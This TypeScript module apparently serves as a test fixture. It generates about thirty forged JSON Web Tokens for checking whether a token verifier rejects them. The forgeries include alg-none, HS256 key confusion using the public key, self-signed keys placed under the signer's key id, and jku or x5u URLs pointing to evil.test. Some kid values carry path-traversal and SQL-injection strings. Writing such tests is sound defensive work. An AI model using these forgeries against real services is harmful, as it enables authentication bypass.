/** JWTs as a liar makes them, from what is public: claims, a signer's published keys and tokens that it once signed. */
import { createHmac, createPublicKey, generateKeyPairSync, type KeyObject, sign } from 'node:crypto'
import type { JSONWebKeySet } from 'jose'

const encode = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url')

const signed = (header: object, claims: object, key: KeyObject): string => {
  const input = `${encode(header)}.${encode(claims)}`
  return `${input}.${sign(null, Buffer.from(input), key).toString('base64url')}`
}

const hmac = (header: object, claims: object, key: string | Buffer): string => {
  const input = `${encode(header)}.${encode(claims)}`
  return `${input}.${createHmac('sha256', key).update(input).digest('base64url')}`
}

export type Forgery = {
  /** What the token should pass for. */
  readonly type: string
  readonly claims: object
  readonly jwks: JSONWebKeySet
  /** A token of the same type that the signer really signed, for other claims. */
  readonly genuine: string
}

/** What was done to it → the token. */
export const forgedTokens = ({ type, claims, jwks, genuine }: Forgery): Readonly<Record<string, string>> => {
  const [published] = jwks.keys
  const { kid = '', x = '' } = published ?? {}
  const own = generateKeyPairSync('ed25519')
  const ownJwk = { ...own.publicKey.export({ format: 'jwk' }), kid, alg: 'EdDSA', use: 'sig' }
  const pem = createPublicKey({ key: { kty: 'OKP', crv: 'Ed25519', x }, format: 'jwk' }).export({
    type: 'spki',
    format: 'pem',
  })
  const right = { alg: 'EdDSA', kid, typ: type }
  const byOwnKey = (header: object) => signed({ ...right, ...header }, claims, own.privateKey)
  const [head = '', body = '', signature = ''] = genuine.split('.')
  const bytes = Buffer.from(signature, 'base64url')
  bytes[0] = (bytes[0] ?? 0) ^ 1
  return {
    'alg none': `${encode({ ...right, alg: 'none' })}.${encode(claims)}.`,
    'alg None, with a signature': `${encode({ ...right, alg: 'None' })}.${encode(claims)}.${signature}`,
    'no alg': `${encode({ kid, typ: type })}.${encode(claims)}.${signature}`,
    'HS256 by the public key as PEM': hmac({ ...right, alg: 'HS256' }, claims, pem),
    'HS256 by the public key as bytes': hmac({ ...right, alg: 'HS256' }, claims, Buffer.from(x, 'base64url')),
    'HS256 by the public key as text': hmac({ ...right, alg: 'HS256' }, claims, x),
    'HS256 by the published set': hmac({ ...right, alg: 'HS256' }, claims, JSON.stringify(published)),
    'a key of one’s own under the signer’s id': byOwnKey({}),
    'a key of one’s own under its own id': byOwnKey({ kid: 'own' }),
    'a key of one’s own without an id': byOwnKey({ kid: undefined }),
    'its key in the header': byOwnKey({ jwk: ownJwk }),
    'its key in the header, under no id': byOwnKey({ jwk: ownJwk, kid: undefined }),
    'a set to fetch': byOwnKey({ jku: 'https://evil.test/jwks.json' }),
    'a certificate to believe': byOwnKey({ x5c: ['MIIB'], x5u: 'https://evil.test/x.pem' }),
    'a key id that is a path': byOwnKey({ kid: '../../../../dev/null' }),
    'a key id that is a query': byOwnKey({ kid: "' or 1=1 --" }),
    'a key id of objects': byOwnKey({ kid: '__proto__' }),
    'a key id that is a list': byOwnKey({ kid: [kid, 'own'] }),
    'the signature of another token': `${head}.${encode(claims)}.${signature}`,
    'that signature over other claims, unencoded': `${encode({ ...right, b64: false, crit: ['b64'] })}.${encode(claims)}.${signature}`,
    'an extension that nobody knows': byOwnKey({ crit: ['admin'], admin: true }),
    'another signature': `${head}.${body}.${bytes.toString('base64url')}`,
    'an empty signature': `${head}.${body}.`,
    'a part too few': `${head}.${body}`,
    'a part too many': `${genuine}.${signature}`,
    'the body twice': `${head}.${body}.${signature}.${head}.${encode(claims)}.${signature}`,
    'padding within': `${head}=.${body}==.${signature}=`,
    'JSON serialization': encode({ payload: body, signatures: [{ protected: head, signature }] }),
    'five parts, as if encrypted': `${encode({ alg: 'dir', enc: 'A256GCM', typ: type })}...${body}.`,
  }
}
